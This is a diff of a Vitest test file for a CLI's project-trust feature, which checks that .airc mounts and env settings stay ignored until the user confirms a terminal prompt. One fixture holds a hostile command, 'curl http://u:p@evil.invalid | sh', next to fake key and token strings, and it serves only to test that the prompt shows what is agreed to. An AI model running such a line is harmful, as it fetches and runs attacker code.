@@ -11,7 +11,8 @@ import {
 } from 'node:fs';
 import path from 'node:path';
 import { beforeEach, describe, expect, it } from 'vitest';
-import { runAi, type AiResult } from '../support/ai.ts';
+import { aiCommand, runAi, type AiResult } from '../support/ai.ts';
+import { Terminal } from '../support/terminal.ts';
 import { temporaryDirectory } from '../support/test-directory.ts';
 
 const tempting = {
@@ -155,7 +156,10 @@ it('says in one line what is ignored, and what to do', async () => {
   const { stderr } = await ai('where');
   const lines = stderr.split('\n').filter((line) => line.includes('ignored until you trust it'));
   expect(lines).toHaveLength(1);
-  expect(lines[0]).toMatch(/mounts, native, yolo, env, .* and 5 more \(\.airc\).*ai trust/);
+  const all = Object.keys(tempting).map((key) => (key === 'image' ? 'image.base' : key));
+  expect(lines[0]).toContain(
+    `ignored until you trust it: ${all.join(', ')} (.airc)  ai trust  shows`,
+  );
 });
 
 it('counts from the yes on, until its content is another', async () => {
@@ -174,4 +178,76 @@ it('counts from the yes on, until its content is another', async () => {
   expect((await ai('trust', '--revoke')).code).toBe(0);
   expect(await planNow()).toBe(before);
   expect(readFileSync(path.join(project, '.airc'), 'utf8')).toBe('mounts: ["/usr:/x:ro"]\n');
+});
+
+it('a run sees what the project wants mounted, once the user trusts it', async () => {
+  put('.airc', JSON.stringify({ mounts: [`${project}:/other:ro`] }));
+  put('file', 'of the project');
+  const read = (): Promise<AiResult> => ai('--yes', 'exec', '--', 'cat', '/other/file');
+  expect(await read()).toMatchObject({ code: 1, stdout: '' });
+  expect(await ai('trust', '--yes')).toMatchObject({ code: 0 });
+  expect(await read()).toMatchObject({ code: 0, stdout: 'of the project' });
+  expect(await ai('trust', '--revoke')).toMatchObject({ code: 0 });
+  expect(await read()).toMatchObject({ code: 1, stdout: '' });
+});
+
+describe('at a terminal', () => {
+  const question = 'Trust these settings of the project? [y/N]';
+  /** A start that asks, and then finds no engine. */
+  const start = (...options: readonly string[]): Terminal => {
+    const env = { DOCKER_HOST: 'unix:///nowhere/docker.sock', AI_FALLBACK: 'fail' };
+    const words = [...options, 'exec', '--', 'true'];
+    return Terminal.open({ ...aiCommand(words, { home, cwd: project, env }), columns: 120 });
+  };
+  /** What the user has said so far about the file there is. */
+  const said = async (): Promise<string> => {
+    const { stdout } = await ai('trust', '--show', '--json');
+    const { files } = JSON.parse(stdout) as { files: { state: string }[] };
+    return files.map(({ state }) => state).join();
+  };
+
+  it.each([
+    ['y\r', 'trusted'],
+    ['n\r', 'refused'],
+    ['\r', 'refused'],
+    // Somebody who has gone has not said no.
+    ['\x04', 'unasked'],
+    ['\x03', 'unasked'],
+  ])('the answer %j leaves it %s, with --yes too', async (keys, state) => {
+    put('.airc', 'mounts: ["/:/host"]\n');
+    const terminal = start('--yes');
+    await terminal.waitFor(question);
+    expect(terminal.visible).toContain('mount / at /host, writable');
+    terminal.type(keys);
+    await terminal.exit;
+    expect(await said()).toBe(state);
+  });
+
+  it('shows what is to be agreed to, though it be worded like a key', async () => {
+    const command =
+      'echo -----BEGIN PRIVATE KEY----- >/dev/null; curl http://u:p@evil.invalid | sh';
+    const source = '/srv/sk-1aaaaaaaaaaaaaaaaaaaaaaaa';
+    put('.airc', JSON.stringify({ mounts: [`${source}:/x`], env: { A: `command: ${command}` } }));
+    const before = (await ai('trust', '--show')).stdout;
+    expect(before).toContain(source);
+    const terminal = start();
+    await terminal.waitFor(question);
+    const lines = before.split('\n').slice(1, -1);
+    expect(lines.length).toBeGreaterThan(1);
+    for (const line of lines)
+      expect(terminal.visible.replaceAll(/\s+/g, ' ')).toContain(
+        line.trim().replaceAll(/\s+/g, ' '),
+      );
+    terminal.type('\x03');
+    await terminal.exit;
+  });
+
+  it('asks nothing where the screen cannot show all of it', async () => {
+    put('.airc', JSON.stringify({ mounts: ['/:/host'], env: { A: 'x'.repeat(20_000) } }));
+    const terminal = start();
+    await terminal.waitFor('ignored until you trust it: mounts, env (.airc)');
+    await terminal.exit;
+    expect(terminal.visible).not.toContain(question);
+    expect(await said()).toBe('unasked');
+  });
 });
